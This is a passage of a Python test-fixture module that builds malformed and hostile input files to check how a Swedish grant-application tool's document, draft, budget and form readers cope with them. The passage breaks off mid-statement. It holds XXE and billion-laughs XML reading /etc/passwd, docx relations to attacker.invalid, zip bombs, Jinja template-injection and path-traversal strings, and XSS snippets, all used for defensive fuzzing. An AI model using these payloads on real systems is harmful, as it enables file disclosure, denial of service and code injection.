"""The bad inputs themselves, generated on the fly (nothing large is committed).

Each payload writes one file (or directory, symlink, FIFO …) into a directory of its own and
returns the path the command is pointed at. `groups` says which commands read it: a broken
document is fed to every reader, a broken form only to `forms check`, a bad budget cell to the
commands that read a draft.
"""

from __future__ import annotations

import io
import os
import random
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SOURCES = ROOT / "tests" / "fixtures" / "library-sources"
FORM_FILE = ROOT / "sections" / "finsam-malmo.toml"

FILE_READERS = ("status", "check", "export", "forms-check", "import", "new-from")
DRAFT_READERS = ("status", "check", "export")
BUDGET_READERS = ("check", "export")

APPLICATION_TEXT = """Ansökan om projektmedel – Vägen vidare

1. Kontaktuppgifter
Projektägare: Arbetsmarknadsförvaltningen, Malmö stad.

2. Bakgrund
Många unga vuxna i Malmö står långt från arbetsmarknaden och behöver samordnat stöd från kommunen,
Arbetsförmedlingen och Försäkringskassan. Insatsen bygger på erfarenheter från tidigare projekt.

3. Presentation av insatsen (inled med kort sammanfattning)
Insatsen ger deltagarna ett samordnat stöd mot arbete eller studier med en gemensam plan.

3.2. Målgrupp
Målgruppen är 60 unga vuxna, kvinnor och män, 18–29 år som saknar sysselsättning.

4. Mål
Minst 40 procent av deltagarna går vidare till arbete eller studier.
"""


@dataclass
class Payload:
    name: str
    make: Callable[[Path], Path]
    groups: tuple[str, ...] = FILE_READERS
    heavy: bool = False  # large or slow to build: only in the full corpus
    timeout: float = 20.0
    note: str = ""
    only: tuple[str, ...] = field(default_factory=tuple)  # restrict to these readers


# ---------------------------------------------------------------------------------------------
# Building blocks


def real_source_text() -> str:
    """One of the real, messy approved applications (from the test fixtures), else a clean one."""
    path = SOURCES / "001_4b5533777013640f.txt"
    return path.read_text(encoding="utf-8") if path.exists() else APPLICATION_TEXT


def good_draft_text(**changes) -> str:
    """A valid, filled-in draft written by the core itself."""
    import datetime as dt

    from assistant.core.model.drafts import Contact, new_draft, to_text
    from assistant.core.model.forms import load_form

    form = load_form("finsam-malmo")
    draft = new_draft(form, title="Vägen vidare", organisation="Malmö stad", municipality="Malmö")
    draft.start, draft.end = dt.date(2026, 1, 1), dt.date(2027, 12, 31)
    draft.contacts = [
        Contact(
            name="Anna Ek",
            role="Projektledare",
            organisation="Malmö stad",
            phone="040-34 10 00",
            email="anna.ek@example.se",
        )
    ]
    for heading in form.headings:
        if heading.kind == "text":
            draft.set_text(
                heading.key,
                f"Text om {heading.title.lower()} för unga vuxna i Malmö. "
                "Kommunen och Arbetsförmedlingen samverkar kring kvinnor och män.",
            )
    draft.budget.years = [2026, 2027]
    for category in form.budget.categories:
        draft.budget.set_cell(category, 2026, "100 000")
        draft.budget.set_cell(category, 2027, "100 000")
    for key, value in changes.items():
        if key.startswith("section_"):
            draft.set_text(key[len("section_") :], value)
        else:
            setattr(draft, key, value)
    return to_text(draft, form)


def docx_bytes(paragraphs: list[tuple[str, str | None]] | None = None) -> bytes:
    import docx

    document = docx.Document()
    for text, style in paragraphs or [
        ("Ansökan om projektmedel", "Title"),
        ("2. Bakgrund", "Heading 1"),
        ("Många unga vuxna står långt från arbetsmarknaden och behöver stöd.", None),
        ("4. Mål", "Heading 1"),
        ("Minst 40 procent av deltagarna går vidare till arbete.", None),
    ]:
        document.add_paragraph(text, style=style)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pdf_bytes(lines: list[str]) -> bytes:
    """A minimal one-page PDF whose text pypdf can extract (Helvetica, WinAnsi)."""

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    stream = "BT /F1 11 Tf 50 800 Td 14 TL " + " ".join(f"({esc(line)}) '" for line in lines) + " ET"
    data = stream.encode("cp1252", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _write(name: str, data: bytes | str) -> Callable[[Path], Path]:
    def make(directory: Path) -> Path:
        path = directory / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    return make


def _lazy(name: str, build: Callable[[], bytes | str]) -> Callable[[Path], Path]:
    def make(directory: Path) -> Path:
        return _write(name, build())(directory)

    return make


def _docx_with(
    name: str, extra: dict[str, bytes], content_types: bytes | None = None, document_xml: bytes | None = None
) -> Callable[[Path], Path]:
    """A real .docx with members added or replaced (macros, XXE)."""

    def make(directory: Path) -> Path:
        source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
        members = dict(extra)
        path = directory / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for info in source.infolist():
                data = members.pop(info.filename, source.read(info.filename))
                if info.filename == "[Content_Types].xml" and content_types:
                    data = data.replace(b"</Types>", content_types + b"</Types>")
                if info.filename == "word/document.xml" and document_xml:
                    data = document_xml
                out.writestr(info.filename, data)
            for member, data in members.items():
                out.writestr(member, data)
        return path

    return make


EXTERNAL_RELATIONS = (
    b'<Relationship Id="rIdX1" Target="http://attacker.invalid/track.png" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    b'<Relationship Id="rIdX2" Target="file:///etc/passwd" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    b'<Relationship Id="rIdX3" Target="\\\\attacker.invalid\\share\\evil.dotm" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)


def _with_external_refs(directory: Path) -> Path:
    """Relations to a web address, a local file and a remote template (never fetched)."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    path = directory / "externa-referenser.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", EXTERNAL_RELATIONS + b"</Relationships>")
            out.writestr(info.filename, data)
    return path


XXE_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    b"<w:p><w:r><w:t>2. Bakgrund</w:t></w:r></w:p>"
    b"<w:p><w:r><w:t>Hemlig fil: &xxe; och &lol3;</w:t></w:r></w:p>"
    b"</w:body></w:document>"
)


def _zip_bomb(name: str, members: int, member_bytes: int) -> Callable[[Path], Path]:
    """A small .docx whose members decompress to `members × member_bytes` of zeros."""

    def make(directory: Path) -> Path:
        base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
        path = directory / name
        chunk = b"\0" * (1 << 20)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
            for info in base.infolist():
                out.writestr(info.filename, base.read(info.filename))
            for n in range(members):
                with out.open(f"word/media/image{n}.bin", "w", force_zip64=True) as member:
                    for _ in range(member_bytes >> 20):
                        member.write(chunk)
        return path

    return make


def _xml_bomb_under_limit(directory: Path) -> Path:
    """document.xml just under the unpacked limit, all of it paragraphs: slow to read, not refused by size."""
    base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    path = directory / "xml-bomb-190mb.docx"
    para = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>"
    head, tail = base.read("word/document.xml").split(b"<w:body>", 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as out:
        for info in base.infolist():
            if info.filename != "word/document.xml":
                out.writestr(info.filename, base.read(info.filename))
        with out.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(head + b"<w:body>")
            block = para * 30_000
            for _ in range(190_000_000 // len(block)):
                member.write(block)
            member.write(tail)
    return path


def _truncated(name: str, build: Callable[[], bytes], keep: float) -> Callable[[Path], Path]:
    return _lazy(name, lambda: (lambda data: data[: int(len(data) * keep)])(build()))


def _flipped(name: str, build: Callable[[], bytes]) -> Callable[[Path], Path]:
    def corrupt() -> bytes:
        data = bytearray(build())
        rng = random.Random(7)
        for _ in range(40):
            i = rng.randrange(len(data) // 4, len(data))
            data[i] ^= 0xFF
        return bytes(data)

    return _lazy(name, corrupt)


def _png() -> bytes:
    import struct
    import zlib

    raw = b"".join(b"\0" + b"\xff\x00\x00" * 8 for _ in range(8))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _elf() -> bytes:
    for candidate in ("/bin/true", "/usr/bin/true", sys.executable):
        if Path(candidate).exists():
            return Path(candidate).read_bytes()[:200_000]
    return b"\x7fELF\x02\x01\x01" + bytes(500)


def _big_text(directory: Path) -> Path:
    path = directory / "stor-50mb.txt"
    paragraph = (APPLICATION_TEXT * 3).encode("utf-8")
    with path.open("wb") as handle:
        while handle.tell() < 50_000_000:
            handle.write(paragraph)
    return path


def _big_draft(directory: Path) -> Path:
    """A draft just under the 20 MB draft limit: every reader must stay bounded in time."""
    sentence = "Deltagarna får stöd av handläggare från kommunen och Arbetsförmedlingen varje vecka. "
    body = "\n\n".join(sentence * 8 for _ in range(24_000))
    return _write("stor-18mb.md", good_draft_text(section_bakgrund=body))(directory)


def _directory(directory: Path) -> Path:
    path = directory / "katalog.md"
    path.mkdir()
    return path


def _unreadable(directory: Path) -> Path:
    path = _write("las-ej.md", good_draft_text())(directory)
    path.chmod(0)  # as root this is still readable: the other "unreadable" cases cover root
    return path


def _symlink_loop(directory: Path) -> Path:
    a, b = directory / "loop-a.md", directory / "loop-b.md"
    a.symlink_to(b)
    b.symlink_to(a)
    return a


def _dangling(directory: Path) -> Path:
    path = directory / "dinglande.md"
    path.symlink_to(directory / "finns-inte.md")
    return path


def _fifo(directory: Path) -> Path:
    path = directory / "ror.md"
    os.mkfifo(path)
    return path


def _proc_mem(directory: Path) -> Path:
    """A file that exists and cannot be read even by root (read gives EIO)."""
    path = directory / "minne.txt"
    path.symlink_to("/proc/self/mem")
    return path


def _not_a_directory(directory: Path) -> Path:
    (directory / "fil.txt").write_text("x", encoding="utf-8")
    return directory / "fil.txt" / "utkast.md"


def _name_too_long(directory: Path) -> Path:
    return directory / ("å" * 300 + ".md")


def _missing(directory: Path) -> Path:
    return directory / "saknas.md"


def _dev_zero(directory: Path) -> Path:
    """Endless bytes behind a harmless name: readers must not read until memory runs out."""
    path = directory / "oandlig.txt"
    path.symlink_to("/dev/zero")
    return path


# ---------------------------------------------------------------------------------------------
# Text content


CONTROL = "".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) + "\x7f\x1b[31m\x1b]0;titel\x07"
RTL = "\u202eטקסט בעברית\u202c و نص عربي \u200fمرحبا\u200e – svensk text om samverkan."
EMOJI = "Deltagarna 👩‍👩‍👧‍👦 når målen 🎯🚀 tillsammans med kommunen 🇸🇪. \U0001f600" * 3
JINJA = "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {{ config }} {{ lipsum.__globals__ }}"
HTML = "<script>alert(1)</script><p>2. Bakgrund</p><ul><li>Stöd</li><li>Praktik</li></ul><iframe src=x>"


def _draft_with(**sections: str) -> Callable[[], str]:
    return lambda: good_draft_text(**{f"section_{k}": v for k, v in sections.items()})


def _source_with(text: str) -> str:
    return APPLICATION_TEXT.replace("Insatsen bygger", text + " Insatsen bygger")


def file_payloads() -> list[Payload]:
    """Broken and strange files, fed to every command that reads a file."""
    return [
        Payload("tom-fil", _write("tom.txt", b"")),
        Payload("tomt-utkast", _write("tom.md", b"")),
        Payload("bara-blanksteg", _write("blanksteg.md", "\n \n\t\n")),
        Payload("50mb-text", _big_text, heavy=True, timeout=60),
        Payload("ogiltig-utf8", _write("ogiltig.txt", APPLICATION_TEXT.encode() + b"\xff\xfe\xc3\x28 trasig")),
        Payload(
            "ogiltig-utf8-utkast", _lazy("ogiltig.md", lambda: good_draft_text().encode() + b"\n\xc3\x28\xa0\xa1\n")
        ),
        Payload("utf16-bom", _write("utf16.txt", APPLICATION_TEXT.encode("utf-16"))),
        Payload("utf16-utkast", _lazy("utf16.md", lambda: good_draft_text().encode("utf-16"))),
        Payload("utf16-utan-bom", _write("utf16le.txt", APPLICATION_TEXT.encode("utf-16-le"))),
        Payload("crlf-utkast", _lazy("crlf.md", lambda: good_draft_text().replace("\n", "\r\n"))),
        Payload("crlf-kalla", _lazy("crlf.txt", lambda: real_source_text().replace("\n", "\r\n"))),
        Payload("bara-cr", _lazy("cr.txt", lambda: APPLICATION_TEXT.replace("\n", "\r"))),
        Payload("cp1252", _write("windows.txt", APPLICATION_TEXT.encode("cp1252", "replace"))),
        Payload("kontrolltecken", _write("kontroll.txt", _source_with(CONTROL))),
        Payload(
            "kontrolltecken-utkast", _lazy("kontroll.md", _draft_with(bakgrund=CONTROL, mal="ok \ufffe\uffff \ud7ff"))
        ),
        Payload("nul-tecken", _write("nul.txt", _source_with("a\x00b\x00c"))),
        Payload("hoger-till-vanster", _write("rtl.txt", _source_with(RTL))),
        Payload("hoger-till-vanster-utkast", _lazy("rtl.md", _draft_with(bakgrund=RTL, presentation=RTL))),
        Payload("emoji", _write("emoji.txt", _source_with(EMOJI))),
        Payload("emoji-utkast", _lazy("emoji.md", _draft_with(bakgrund=EMOJI))),
        Payload("rad-1mb", _write("lang-rad.txt", "2. Bakgrund\n" + "samverkan " * 100_000 + "\n")),
        Payload("ord-1mb-utkast", _lazy("langt-ord.md", _draft_with(bakgrund="x" * 1_000_000))),
        Payload("rad-1mb-utkast", _lazy("lang-rad.md", _draft_with(bakgrund="samverkan och stöd " * 55_000))),
        Payload("html", _write("html.txt", _source_with(HTML))),
        Payload("mallkod", _write("mall.txt", _source_with(JINJA))),
        Payload("mallkod-utkast", _lazy("mall.md", _draft_with(bakgrund=JINJA))),
        Payload("png-som-docx", _lazy("bild.docx", _png)),
        Payload("png-som-pdf", _lazy("bild.pdf", _png)),
        Payload("elf-som-txt", _lazy("program.txt", _elf)),
        Payload("elf-som-md", _lazy("program.md", _elf)),
        Payload("slumpbytes", _write("slump.md", random.Random(3).randbytes(50_000))),
        Payload("gammal-doc", _write("gammal.txt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))),
        Payload("zip-som-txt", _lazy("arkiv.txt", docx_bytes)),
        Payload("giltig-docx", _lazy("giltig.docx", docx_bytes)),
        Payload("giltig-pdf", _lazy("giltig.pdf", lambda: pdf_bytes(APPLICATION_TEXT.split("\n")))),
        Payload("avkortad-docx", _truncated("avkortad.docx", docx_bytes, 0.5)),
        Payload("avkortad-docx-slut", _truncated("avkortad2.docx", docx_bytes, 0.97)),
        Payload("trasig-docx", _flipped("trasig.docx", docx_bytes)),
        Payload("avkortad-pdf", _truncated("avkortad.pdf", lambda: pdf_bytes(APPLICATION_TEXT.split("\n")), 0.6)),
        Payload("trasig-pdf", _lazy("trasig.pdf", lambda: b"%PDF-1.7\n" + random.Random(5).randbytes(20_000))),
        Payload("pdf-utan-text", _lazy("tom.pdf", lambda: pdf_bytes([]))),
        Payload("docx-utan-dokument", _lazy("utan.docx", lambda: _zip_without_document())),
        Payload(
            "makro-docm",
            _docx_with(
                "makro.docm",
                {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)},
                b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
        ),
        Payload("makro-som-docx", _docx_with("makro.docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)})),
        Payload("externa-referenser", _with_external_refs),
        Payload("xxe-docx", _docx_with("xxe.docx", {}, document_xml=XXE_DOCUMENT)),
        Payload("zip-bomb-300mb", _zip_bomb("bomb-liten.docx", 1, 300 << 20), timeout=30),
        Payload("zip-bomb-2gb", _zip_bomb("bomb.docx", 2, 1 << 30), heavy=True, timeout=60),
        Payload("xml-bomb-190mb", _xml_bomb_under_limit, heavy=True, timeout=60),
        Payload("katalog", _directory),
        Payload("chmod-000", _unreadable),
        Payload("symlink-slinga", _symlink_loop),
        Payload("dinglande-symlink", _dangling),
        Payload("namngiven-pipe", _fifo),
        Payload("proc-mem", _proc_mem),
        Payload("dev-zero", _dev_zero),
        Payload("inte-en-katalog", _not_a_directory),
        Payload("for-langt-namn", _name_too_long),
        Payload("saknas", _missing),
    ]


def _zip_without_document() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("hej.txt", "inte ett dokument")
    return buffer.getvalue()


# ---------------------------------------------------------------------------------------------
# Drafts that are valid text but wrong as drafts


def _replace_front(old: str, new: str) -> Callable[[], str]:
    def build() -> str:
        text = good_draft_text()
        assert old in text, old
        return text.replace(old, new, 1)

    return _lazy("utkast.md", build)


def _body_dup() -> str:
    text = good_draft_text()
    return text + "\n## 2. Bakgrund {#bakgrund}\n\nEn andra bakgrund.\n\n## Bakgrund\n\nEn tredje.\n"


def _only_two_sections() -> str:
    text = good_draft_text()
    front = text.split("\n+++\n", 1)[0] + "\n+++\n"
    return front + "\n## 2. Bakgrund {#bakgrund}\n\nText.\n\n## Egen rubrik {#egen}\n\nMer text.\n"


def _many_sections() -> str:
    text = good_draft_text()
    return text + "".join(f"\n## Rubrik {n} {{#r{n}}}\n\nText {n}.\n" for n in range(5000))


def _markup_torture() -> str:
    nasty = "\n".join(
        [
            "\\## inte en rubrik",
            "\\\\## två snedstreck",
            "+++",
            "### underrubrik",
            "####### sju",
            "\t".join(["cell"] * 400),
            "- " * 2000,
            "1. " * 500,
            "*" * 5000,
            "**fet utan slut",
            "    - djup punkt",
            "        - djupare",
            "[länk](javascript:alert(1))",
            "<w:p>xml</w:p>",
            "&amp; &#0; &#xD800;",
        ]
    )
    return good_draft_text(section_bakgrund=nasty, section_mal="+++\nschema = 99\n+++")


def draft_payloads() -> list[Payload]:
    g = DRAFT_READERS
    return [
        Payload("giltigt-utkast", _lazy("giltig.md", good_draft_text), g),
        Payload("dubbla-avsnitt", _lazy("dubbla.md", _body_dup), g),
        Payload("saknade-avsnitt", _lazy("saknade.md", _only_two_sections), g),
        Payload(
            "inga-rubriker", _lazy("inga.md", lambda: good_draft_text().split("\n## ", 1)[0] + "\nBara text.\n"), g
        ),
        Payload("5000-avsnitt", _lazy("manga.md", _many_sections), g, timeout=40),
        Payload("markup-tortyr", _lazy("markup.md", _markup_torture), g),
        Payload("utan-huvud", _write("utan-huvud.md", "## 2. Bakgrund\n\nText utan TOML-huvud.\n"), g),
        Payload(
            "huvud-utan-slut", _write("oavslutat.md", '+++\nschema = 1\nform = "finsam-malmo"\n\n## 2. Bakgrund\n'), g
        ),
        Payload("toml-fel-i-huvud", _replace_front('title = "Vägen vidare"', 'title = "Vägen vidare'), g),
        Payload("dubbel-nyckel-i-huvud", _replace_front('title = "Vägen vidare"', 'title = "A"\ntitle = "B"'), g),
        Payload("schema-99", _replace_front("schema = 1", "schema = 99"), g),
        Payload("schema-text", _replace_front("schema = 1", 'schema = "ett"'), g),
        Payload("okant-formular", _replace_front('form = "finsam-malmo"', 'form = "finns-inte"'), g),
        Payload("formular-sokvag", _replace_front('form = "finsam-malmo"', 'form = "../../../etc/passwd"'), g),
        Payload("formular-tal", _replace_front('form = "finsam-malmo"', "form = 5"), g),
        Payload("titel-tal", _replace_front('title = "Vägen vidare"', "title = 5"), g),
        Payload("datum-30-feb", _replace_front("start = 2026-01-01", "start = 2020-02-30"), g),
        Payload("datum-30-feb-text", _replace_front("start = 2026-01-01", 'start = "2020-02-30"'), g),
        Payload("start-efter-slut", _replace_front("start = 2026-01-01", "start = 2029-01-01"), g),
        Payload(
            "absurd-period",
            _replace_front("start = 2026-01-01\nend = 2027-12-31", "start = 0001-01-01\nend = 9999-12-31"),
            g,
        ),
        Payload("datum-med-tid", _replace_front("start = 2026-01-01", "start = 2026-01-01T10:00:00+02:00"), g),
        Payload(
            "kontakter-fel-typ",
            _lazy(
                "kontakt.md",
                lambda: (
                    good_draft_text()
                    .replace("[[contacts]]", "[[contacts_x]]")
                    .replace("+++\n", '+++\ncontacts = "Anna"\n', 1)
                ),
            ),
            g,
        ),
        Payload("kontakt-okand-nyckel", _replace_front('name = "Anna Ek"', 'name = "Anna Ek"\nshoe_size = 42'), g),
        Payload("budget-fel-typ", _lazy("budget-typ.md", lambda: _budget_front('budget = "mycket"')), g),
        Payload(
            "budget-ar-dubbla",
            _lazy("budget-ar.md", lambda: _budget_front('[budget]\nyears = [2026, 2026]\ncategories = ["Personal"]')),
            g,
        ),
        Payload(
            "budget-ar-orimliga",
            _lazy(
                "budget-ar2.md", lambda: _budget_front('[budget]\nyears = [-5, 99999999999]\ncategories = ["Personal"]')
            ),
            g,
        ),
        Payload(
            "budget-ar-flyttal",
            _lazy("budget-ar3.md", lambda: _budget_front('[budget]\nyears = [2026.5]\ncategories = ["Personal"]')),
            g,
        ),
        Payload(
            "budget-rad-fel-langd",
            _lazy(
                "budget-rad.md",
                lambda: _budget_front(
                    '[budget]\nyears = [2026, 2027]\ncategories = ["Personal"]\ncompiled = { Personal = ["1"] }'
                ),
            ),
            g,
        ),
        Payload(
            "budget-poster-fel",
            _lazy(
                "budget-poster.md",
                lambda: _budget_front('[budget]\nyears = [2026]\ncategories = ["Personal"]\nitems = [1, 2, 3]'),
            ),
            g,
        ),
        Payload(
            "budget-per-ar-fel",
            _lazy(
                "budget-perar.md",
                lambda: _budget_front(
                    '[budget]\nyears = [2026]\ncategories = ["Personal"]\n[[budget.items]]\ncategory = "Personal"\n'
                    'text = "Lön"\nper_year = { tjugo = "5" }'
                ),
            ),
            g,
        ),
        Payload(
            "budget-stated-fel",
            _lazy(
                "budget-stated.md",
                lambda: _budget_front(
                    '[budget]\nyears = [2026]\ncategories = ["Personal"]\n[budget.stated]\nrows = "x"\nyears = 5\n'
                    "subtotals = [1]"
                ),
            ),
            g,
        ),
        Payload(
            "budget-3000-ar",
            _lazy(
                "budget-manga-ar.md",
                lambda: _budget_front(
                    "[budget]\nyears = ["
                    + ", ".join(str(y) for y in range(1900, 2200))
                    + ']\ncategories = ["Personal"]\n'
                    "compiled = { Personal = [" + ", ".join('"1 000"' for _ in range(1900, 2200)) + "] }"
                ),
            ),
            g,
        ),
        Payload("stor-18mb-utkast", _big_draft, g, heavy=True, timeout=60),
    ]


def _budget_front(budget_toml: str) -> str:
    """The good draft with its [budget] tables replaced by `budget_toml`."""
    text = good_draft_text()
    front, body = text.split("\n+++\n", 1)
    lines = front.split("\n")
    kept: list[str] = []
    in_budget = False
    for line in lines:
        if line.startswith("["):
            in_budget = line.strip("[] ").startswith("budget")
        if not in_budget:
            kept.append(line)
    return "\n".join(kept) + "\n" + budget_toml + "\n+++\n" + body


BAD_CELLS = {
    "bokstaver": "ettusen kr",
    "formel": "=SUM(A1:A3)",
    "formel-at": "@SUM(A1)",
    "negativ": "-50 000",
    "minus-minus": "--5",
    "1e30": "1e30",
    "17-nior": "99999999999999999",
    "10000-siffror": "9" * 10_000,
    "exponent-jatte": "1e999999999",
    "nan": "NaN",
    "oandlig": "Infinity",
    "hex": "0x10",
    "arabiska-siffror": "١٢٣",
    "understreck": "1_000",
    "decimal-massa": "1,123456789123456789",
    "mkr": "1,4 mkr",
    "tkr": "8 000 tkr",
    "blandat": "12 kr 13 kr",
    "html": "<b>5</b>",
    "mall": "{{ 7*7 }}",
    "kontroll": "1\x00\x1b 000",
    "tom": "",
    "blanksteg": "   ",
    "nbsp": "1\u00a0373\u00a0334 kr",
    "procent": "50 %",
    "lang": "1 000 " * 2000,
}


def budget_payloads() -> list[Payload]:
    out = []
    for name, cell in BAD_CELLS.items():

        def build(cell: str = cell) -> str:
            import tomli_w

            value = tomli_w.dumps({"v": cell}).split("=", 1)[1].strip()
            return _budget_front(
                '[budget]\nyears = [2026, 2027]\ncategories = ["Personal", "Lokaler"]\n'
                f'compiled = {{ Personal = [{value}, "100 000"], Lokaler = ["5 000", {value}] }}\n'
                f'[[budget.items]]\ncategory = "Personal"\ntext = "Projektledare 100 %"\ntotal = {value}\n'
                f'per_year = {{ "2026" = {value} }}\n'
                f"[budget.stated]\ngrand = {value}\n"
            )

        out.append(Payload(f"budgetcell-{name}", _lazy(f"budget-{name}.md", build), BUDGET_READERS))
    return out


# ---------------------------------------------------------------------------------------------
# Forms (TOML)


def _form_edit(old: str, new: str, *, count: int = 1) -> Callable[[], str]:
    def build() -> str:
        text = FORM_FILE.read_text(encoding="utf-8")
        assert old in text, old
        return text.replace(old, new, count)

    return build


def _form_without_headings() -> str:
    text = FORM_FILE.read_text(encoding="utf-8")
    return text.split("[[headings]]", 1)[0]


def form_payloads() -> list[Payload]:
    g = ("forms-check",)
    name_line = 'name = "FINSAM Malmö – ansökan om projektmedel"'
    cases = {
        "oavslutad-text": _form_edit(name_line, 'name = "FINSAM Malmö'),
        "oavslutad-flerradstext": _form_edit(
            'Vid frågor kontakta FINSAM:s kansli, se www.finsamimalmo.se\n"""', "Vid frågor kontakta FINSAM:s kansli"
        ),
        "dubbel-nyckel": _form_edit(name_line, name_line + '\nname = "igen"'),
        "dubbel-tabell": lambda: FORM_FILE.read_text(encoding="utf-8") + '\n[page]\nsize = "A4"\n',
        "ogiltigt-datum": _form_edit(name_line, name_line + "\ncreated = 2020-02-30"),
        "fel-typ-max-pages": _form_edit("max_pages = 7", 'max_pages = "sju"'),
        "fel-typ-font-size": _form_edit("font_size = 11", "font_size = true"),
        "fel-typ-titel": _form_edit('title = "Bakgrund"', "title = 5"),
        "fel-typ-kategorier": _form_edit(
            'categories = ["Personal", "Externa tjänster", "Lokaler", "Övriga kostnader"]', 'categories = "Personal"'
        ),
        "fel-typ-rubriker": lambda: (
            FORM_FILE.read_text(encoding="utf-8")
            .split("[[headings]]", 1)[0]
            .replace(name_line, name_line + '\nheadings = "alla"')
        ),
        "saknar-id": _form_edit('id = "finsam-malmo"\n', ""),
        "saknar-rubriker": _form_without_headings,
        "rubrik-utan-nyckel": _form_edit('key = "bakgrund"\n', ""),
        "dubbla-rubriknycklar": _form_edit('key = "malgrupp"', 'key = "bakgrund"'),
        "okand-nyckel": _form_edit(name_line, name_line + '\ncolour = "röd"'),
        "okand-sidnyckel": _form_edit("font_size = 11", "font_size = 11\nfontsize = 11"),
        "lista-fel-typ": _form_edit("allowed_sizes = [11, 12]", 'allowed_sizes = ["elva", "tolv"]'),
        "lista-blandad": _form_edit('uncounted = ["underskrift"]', 'uncounted = ["underskrift", 5]'),
        "okand-rubrik-i-lista": _form_edit('uncounted = ["underskrift"]', 'uncounted = ["finns-inte"]'),
        "negativ-storlek": _form_edit("font_size = 11", "font_size = -11"),
        "nan-marginal": _form_edit("margin_top_cm = 2.5", "margin_top_cm = nan"),
        "oandlig-marginal": _form_edit("margin_top_cm = 2.5", "margin_top_cm = inf"),
        "jattemarginal": _form_edit("margin_left_cm = 2.5", "margin_left_cm = 30"),
        "jattetal": _form_edit("max_pages = 7", "max_pages = 99999999999999999999999"),
        "noll-sidor": _form_edit("max_pages = 7", "max_pages = 0"),
        "mall-trasig": _form_edit('title_template = "Ansökan: {{ title }}"', 'title_template = "Ansökan: {{ title"'),
        "mall-injektion": _form_edit(
            'title_template = "Ansökan: {{ title }}"',
            "title_template = \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"",
        ),
        "mall-include": _form_edit(
            'title_template = "Ansökan: {{ title }}"', "title_template = \"{% include '/etc/passwd' %}\""
        ),
        "okand-kontroll": lambda: FORM_FILE.read_text(encoding="utf-8") + "\n[checks.finns_inte]\nx = 1\n",
        "bara-kommentarer": lambda: "# bara en kommentar\n",
        "trasig-syntax": lambda: "= värde\n[[headings]\n",
        "styrtecken-i-text": _form_edit(name_line, 'name = "FINSAM\x01Malmö"'),
        "for-stor": lambda: FORM_FILE.read_text(encoding="utf-8") + "# " + "x" * 1_100_000 + "\n",
        "nastlad-djup": lambda: "a = " + "[" * 5000 + "]" * 5000 + "\n",
        "feltyp-kontroll": lambda: FORM_FILE.read_text(encoding="utf-8").replace(
            "[checks.page_limit]", "[checks.page_limit]\nlevel = [1]"
        ),
    }
    out = [Payload(f"formular-{name}", _lazy(f"{name}.toml", build), g) for name, build in cases.items()]
    out.append(
